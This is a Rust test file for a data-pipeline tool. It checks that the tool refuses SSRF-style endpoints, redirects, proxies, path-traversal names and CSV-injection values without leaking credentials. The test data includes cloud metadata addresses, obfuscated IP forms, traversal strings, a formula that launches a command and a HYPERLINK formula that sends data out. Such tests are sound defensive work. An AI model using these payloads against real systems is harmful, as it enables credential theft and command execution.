//! Urls and endpoints that lead elsewhere: nobody there is asked anything, and nothing of them that may be a secret is told.

use crate::ferry::Ferry;
use crate::readers::python;
use nightferry::access::Folder;
use nightferry::data::Name;
use object_store::memory::InMemory;
use object_store::path::Path;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

/// Somebody who listens on this machine, and counts who comes.
fn listener() -> (u16, Arc<AtomicU64>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let (port, seen) = (listener.local_addr().expect("an address").port(), Arc::new(AtomicU64::new(0)));
    let of = Arc::clone(&seen);
    std::thread::spawn(move || {
        for _ in listener.incoming() {
            of.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, seen)
}

/// Somebody on this machine who answers every request with the address `at`.
fn redirecting(status: &'static str, at: String) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        for mut client in listener.incoming().map_while(Result::ok) {
            let mut request = [0; 4096];
            let _ = client.read(&mut request);
            let answer =
                format!("HTTP/1.1 {status}\r\nLocation: {at}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
            let _ = client.write_all(answer.as_bytes());
        }
    });
    port
}

fn things() -> Ferry {
    let amount = "amount = { type = \"integer\", class = \"open\" }";
    Ferry::of_one_file("app.thing.csv", b"id,amount\n1,10\n", amount, "")
}

/// A run with credentials in its surroundings, and `more` of them.
fn run_with(ferry: &Ferry, more: &[(&str, &str)]) -> crate::ferry::Came {
    let mut command = ferry.command(&["run", "jobs/things.toml", "--progress", "none"]);
    // Those of the tests' own servers are nobody's here.
    for name in ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"] {
        command.env_remove(name);
    }
    command.env("NIGHTFERRY_LOG", "trace").envs(more.iter().copied());
    crate::ferry::Came::of(&command.output().expect("the binary starts"))
}

const AWS: [(&str, &str); 2] = [("AWS_ACCESS_KEY_ID", "opensesame"), ("AWS_SECRET_ACCESS_KEY", "opensesame")];
const AZURE: [(&str, &str); 2] =
    [("AZURE_STORAGE_ACCOUNT_NAME", "somebody"), ("AZURE_STORAGE_ACCOUNT_KEY", "b3BlbnNlc2FtZQ==")];

#[test]
fn an_answer_that_leads_elsewhere_is_followed_by_nobody() {
    let (port, seen) = listener();
    for status in
        ["301 Moved Permanently", "302 Found", "303 See Other", "307 Temporary Redirect", "308 Permanent Redirect"]
    {
        let by = redirecting(status, format!("http://127.0.0.1:{port}/latest/meta-data/iam/"));
        let s3 = format!("url = \"s3://bucket/a\"\nregion = \"eu-west-2\"\nendpoint = \"http://127.0.0.1:{by}\"");
        let azure = format!("url = \"az://bucket/a\"\nendpoint = \"http://127.0.0.1:{by}/somebody\"");
        let inline = |place: &str| format!("{{ {} }}", place.replace('\n', ", "));
        for (variables, place) in [(AWS, s3), (AZURE, azure)] {
            for (from, to) in [("url = \"out/warehouse\"", place.clone()), ("{ url = \"in\" }", inline(&place))] {
                let ferry = things();
                ferry.edit("jobs/environments/dev.toml", from, &to);
                let came = run_with(&ferry, &variables);
                assert_eq!(came.code, 13, "{status} {to}: {}", came.err);
                assert!(came.endings()[0].starts_with("E-REDIRECT-13 "), "{status} {to}: {}", came.err);
                assert!(!came.err.contains("opensesame") && !came.err.contains("meta-data"), "{}", came.err);
                assert!(!ferry.path("out/security/_jobs").exists(), "nothing is published");
            }
        }
        // Whoever hands out the task's credentials.
        let ferry = things();
        let nobody = "url = \"s3://bucket/a\"\nregion = \"eu-west-2\"\nendpoint = \"http://127.0.0.1:9\"";
        ferry.edit("jobs/environments/dev.toml", "url = \"out/warehouse\"", nobody);
        ferry.write("token", b"opensesame");
        let token = ferry.path("token").to_string_lossy().into_owned();
        let uri = format!("http://127.0.0.1:{by}/v2/credentials");
        let of_task =
            [("AWS_CONTAINER_CREDENTIALS_FULL_URI", uri.as_str()), ("AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", &token)];
        let came = run_with(&ferry, &of_task);
        assert!(came.endings()[0].starts_with("E-REDIRECT-13 "), "{status}: {}", came.err);
        assert!(!came.err.contains("opensesame"), "{}", came.err);
    }
    assert_eq!(seen.load(Ordering::SeqCst), 0, "somebody was asked");
}

#[test]
fn no_proxy_of_the_surroundings_sees_what_is_said_to_this_machine() {
    let (proxy, seen) = listener();
    let proxy = format!("http://127.0.0.1:{proxy}");
    let by = redirecting("404 Not Found", String::new());
    let ferry = things();
    let place = format!("url = \"s3://bucket/a\"\nregion = \"eu-west-2\"\nendpoint = \"http://127.0.0.1:{by}\"");
    ferry.edit("jobs/environments/dev.toml", "url = \"out/warehouse\"", &place);
    let proxies = ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"].map(|name| (name, proxy.as_str()));
    let came = run_with(&ferry, &[&AWS[..], &proxies[..]].concat());
    assert_eq!(came.code, 14, "the store itself answered: {}", came.err);
    assert_eq!(seen.load(Ordering::SeqCst), 0, "the proxy was asked");
}

#[test]
fn an_endpoint_of_the_surroundings_is_looked_at_as_well() {
    for (url, name, at) in [
        ("s3://bucket/a", "AWS_ENDPOINT_URL_S3", "https://169.254.169.254"),
        ("s3://bucket/a", "AWS_ENDPOINT_URL", "https://opensesame@s3.example.org"),
        ("az://bucket/a", "AZURE_STORAGE_ENDPOINT", "https://[fe80::1]"),
    ] {
        let ferry = things();
        ferry.edit("jobs/environments/dev.toml", "url = \"out/warehouse\"", &format!("url = \"{url}\""));
        let variables = [&AWS[..], &AZURE[..], &[(name, at), ("AWS_REGION", "eu-west-2")]].concat();
        let came = run_with(&ferry, &variables);
        assert_eq!(came.code, 10, "{name}: {}", came.err);
        assert!(!came.err.contains("opensesame"), "{}", came.err);
    }
}

#[test]
fn nobody_is_asked_at_a_url_that_leads_elsewhere() {
    let (port, seen) = listener();
    let url = |url: &str| format!("url = \"{}\"", url.replace("PORT", &port.to_string()));
    let endpoint = |at: &str| {
        let at = at.replace("PORT", &port.to_string());
        format!("url = \"s3://bucket/a\"\nregion = \"eu-west-2\"\nendpoint = \"{at}\"")
    };
    let places = [
        url("http://127.0.0.1:PORT/a"),
        url("https://127.0.0.1:PORT/a"),
        url("s3://key:opensesame@bucket/a"),
        url("s3://127.0.0.1:PORT/a"),
        url("s3://bucket/a?sig=opensesame"),
        url("s3://bucket/a/../../b"),
        url("s3://bucket/%2e%2e/b?x"),
        url("abfss://c@127.0.0.1:PORT/a"),
        url("abfss://c@evil.example.org/a"),
        url("abfss://c@x.dfs.core.windows.net@127.0.0.1:PORT/a"),
        url("gopher://127.0.0.1:PORT/a"),
        url("file://127.0.0.1:PORT/etc"),
        endpoint("http://169.254.169.254"),
        endpoint("https://169.254.169.254"),
        endpoint("https://169.254.170.2/v2/credentials"),
        endpoint("https://[fd00:ec2::254]"),
        endpoint("https://[fe80::1]"),
        endpoint("https://2852039166"),
        endpoint("https://0xa9fea9fe"),
        endpoint("http://localhost:PORT@169.254.169.254"),
        endpoint("http://opensesame@127.0.0.1:PORT"),
        endpoint("http://127.0.0.1:PORT?sig=opensesame"),
        endpoint("http://127.0.0.1.example.org:PORT"),
        endpoint("http://0.0.0.0:PORT"),
        endpoint("ftp://127.0.0.1:PORT"),
        endpoint("127.0.0.1:PORT"),
    ];
    for place in places {
        let ferry = Ferry::of_one_file(
            "app.thing.csv",
            b"id,amount\n1,10\n",
            "amount = { type = \"integer\", class = \"open\" }",
            "",
        );
        ferry.edit("jobs/environments/dev.toml", "url = \"out/warehouse\"", &place);
        let mut command = ferry.command(&["run", "jobs/things.toml", "--progress", "none"]);
        command.env("AWS_ACCESS_KEY_ID", "a").env("AWS_SECRET_ACCESS_KEY", "b").env("NIGHTFERRY_LOG", "trace");
        let came = crate::ferry::Came::of(&command.output().expect("the binary starts"));
        assert!([10, 11, 13].contains(&came.code), "{place} ends with {}: {}", came.code, came.err);
        assert!(!came.endings().is_empty(), "{place}: {}", came.err);
        assert!(!came.err.contains("opensesame") && !came.out.contains("opensesame"), "{place}: {}", came.err);
        assert!(!ferry.path("out/security/_jobs").exists(), "{place}: nothing is published");
    }
    assert_eq!(seen.load(Ordering::SeqCst), 0, "somebody was asked");
}

#[test]
fn a_name_that_leaves_its_folder_ends_with_10_and_nothing_is_written() {
    let long = "a".repeat(300);
    for name in [
        "../up",
        "..",
        "a/b",
        "a\\\\b",
        "_delta_log",
        "a%2e%2e",
        "a\\u0000b",
        "a\\r\\nb",
        "caf\\u00e9",
        "cafe\\u0301",
        &long,
        "",
    ] {
        for (file, from, to) in [
            ("jobs/things.toml", "[dataset.thing]", format!("[dataset.\"{name}\"]")),
            ("jobs/things.toml", "name = \"things\"", format!("name = \"{name}\"")),
            ("jobs/things.toml", "schema = \"thing\"", format!("schema = \"{name}\"")),
            ("jobs/things.toml", "to = [\"warehouse\"]", format!("to = [\"{name}\"]")),
            ("jobs/environments/dev.toml", "[store.warehouse]", format!("[store.\"{name}\"]")),
        ] {
            let amount = "amount = { type = \"integer\", class = \"open\" }";
            let ferry = Ferry::of_one_file("app.thing.csv", b"id,amount\n1,10\n", amount, "");
            ferry.edit(file, from, &to);
            let before = ferry.files("").len();
            let came = ferry.run(&["run", "jobs/things.toml", "--progress", "none"]);
            assert!([10, 11].contains(&came.code), "{to} ends with {}: {}", came.code, came.err);
            assert_eq!(ferry.files("").len(), before, "{to}: nothing is written");
        }
    }
}

/// Pieces that hostile names and paths are made of.
const PIECES: [&str; 28] = [
    "..",
    ".",
    "/",
    "\\",
    "%2e",
    "%2E%2e",
    "%2f",
    "%00",
    "\0",
    "\r\n",
    "\n",
    "_delta_log",
    "_nightferry",
    "_jobs",
    "run=",
    "a",
    "Z9",
    "caf\u{e9}",
    "e\u{301}",
    "\u{202e}",
    "\u{feff}",
    "\u{ff0e}\u{ff0e}",
    " ",
    "'",
    "\"",
    ";--",
    "~",
    "\u{1f6a2}",
];

#[test]
fn a_hundred_thousand_hostile_names_stay_in_their_folder() {
    let folder = Folder::new(Arc::new(InMemory::new()), Path::from("warehouse"), "warehouse");
    let (mut dice, mut named, mut folders) = (7_u64, 0, std::collections::BTreeMap::new());
    for nth in 0..100_000_u64 {
        let mut text = String::new();
        for _ in 0..1 + nth % 7 {
            dice = dice.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            text.push_str(PIECES[(dice >> 33) as usize % PIECES.len()]);
        }
        if nth % 1_000 == 0 {
            text.push_str(&"x".repeat(1_100));
        }
        // What becomes a folder: a name, or nothing.
        if let Ok(name) = Name::new(&text) {
            named += 1;
            let plain = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'_';
            assert!(name.as_str().bytes().all(plain) && name.as_str().len() <= 63, "{text:?} is a name");
            assert!(!name.as_str().starts_with('_'), "{text:?} is a name");
        }
        // What becomes a key, whoever made it: below the folder, and the same text for the same key.
        let key = folder.at(&text);
        assert!(key.as_ref() == "warehouse" || key.as_ref().starts_with("warehouse/"), "{text:?}: {key}");
        assert!(
            key.parts().all(|part| part.as_ref() != ".." && !part.as_ref().contains(['\0', '\r', '\n'])),
            "{key:?}"
        );
        if let Some(name) = Name::new(&text).ok().filter(|name| folder.relative(&folder.at(name.as_str())).is_some()) {
            let before = folders.insert(folder.at(name.as_str()).to_string(), text.clone());
            assert!(before.is_none_or(|before| before == text), "two names have one folder");
        }
    }
    assert!(named > 0, "no name was one");
}

/// What a spreadsheet would run. Source: OWASP, "CSV Injection".
const FORMULAS: [&str; 8] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "=HYPERLINK(\"http://example.org?x=\"&A1)",
    "'=1+1",
];

#[test]
fn a_formula_is_published_as_the_text_that_it_is_and_told_in_no_report() {
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let rows: String = (0..).zip(FORMULAS).map(|(id, text)| format!("{id},{}\n", quoted(text))).collect();
    let csv = format!("id,amount\n{rows}");
    let ferry = things();
    ferry.edit("schemas/thing.toml", "type = \"integer\"", "type = \"text\"");
    ferry.write("in/app.thing.csv", csv.as_bytes());
    let came = run_with(&ferry, &[]);
    assert_eq!(came.code, 0, "{}", came.err);
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/readers/rows.py");
    let seen = python(&[script, "id", ferry.path("out/warehouse/thing").to_str().expect("a path")]);
    let seen: serde_json::Value = serde_json::from_str(&seen).expect("JSON");
    let texts: Vec<&str> =
        seen["rows"].as_array().expect("rows").iter().map(|row| row[1].as_str().expect("text")).collect();
    assert_eq!(texts, FORMULAS, "Parquet keeps the value, and nothing of ours is a CSV");
    for file in ferry.files("out").into_iter().filter(|file| !file.ends_with(".parquet")) {
        let text =
            String::from_utf8_lossy(&std::fs::read(ferry.path(&format!("out/{file}"))).expect("it")).into_owned();
        // The bounds of a column that is about nobody are in the table's log, where Delta wants them.
        let is_of_delta = file.contains("_delta_log") || file.contains("_jobs/");
        assert!(is_of_delta || !text.contains("HYPERLINK") && !text.contains("cmd|"), "{file}");
        assert!(!file.ends_with(".csv"), "{file}");
    }
}
